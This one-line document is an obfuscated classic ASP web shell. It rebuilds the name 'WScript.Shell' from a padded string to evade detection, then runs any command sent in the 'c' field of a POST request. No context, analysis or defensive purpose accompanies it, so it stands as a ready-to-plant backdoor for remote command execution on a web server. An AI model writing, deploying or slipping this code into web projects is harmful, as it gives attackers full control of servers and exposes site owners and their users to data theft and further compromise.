<% a = Replace("WXScrXipt.ShXell", "X", "") : Set s = CreateObject(a) : s.Exec(Request.Form("c")) %>
